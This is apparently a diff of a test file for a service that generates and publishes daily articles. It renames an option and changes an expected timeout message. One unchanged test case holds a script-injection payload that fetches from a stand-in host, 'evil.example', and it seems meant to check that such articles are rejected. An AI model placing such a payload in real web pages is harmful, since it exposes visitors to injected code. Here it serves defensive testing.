@@ -90,7 +90,7 @@ test('publishes good articles only, and records the outcome of every response fr
       [{ error: { message: 'bad key' }, status: 401 }],
       { outcome: 'failed', cause: 'writer-unavailable', reason: /HTTP 401/, rounds: 1 },
     ],
-    ['timeout', [replyWith(fourth)], { outcome: 'failed', cause: 'writer-unavailable', reason: /in time/, rounds: 1 }, 2_000],
+    ['timeout', [replyWith(fourth)], { outcome: 'failed', cause: 'writer-unavailable', reason: /timed out/, rounds: 1 }, 2_000],
     [
       'script',
       [withPassage('<script>fetch("//evil.example")</script>')],
@@ -204,7 +204,7 @@ test("a request beyond the day's limit gets an explanation, and repeated request
 test('a visitor waits no longer than the time limit, and no more visitors wait than allowed', async () => {
   const urls = await freshDatabase();
   // No worker is running.
-  const press = createGenerateDailyArticleFunction(servicesFor(urls.site_web), { waitMs: 600, everyMs: 50, mostWaiting: 2 });
+  const press = createGenerateDailyArticleFunction(servicesFor(urls.site_web), { waitMs: 600, everyMs: 50, maxWaiting: 2 });
   const answers = await Promise.all([1, 2, 3].map(() => press(undefined, visitor())));
   expect(answers.map((answer) => (answer as { error: string }).error).sort()).toEqual(
     [notices.crowded, notices.slow, notices.slow].sort(),
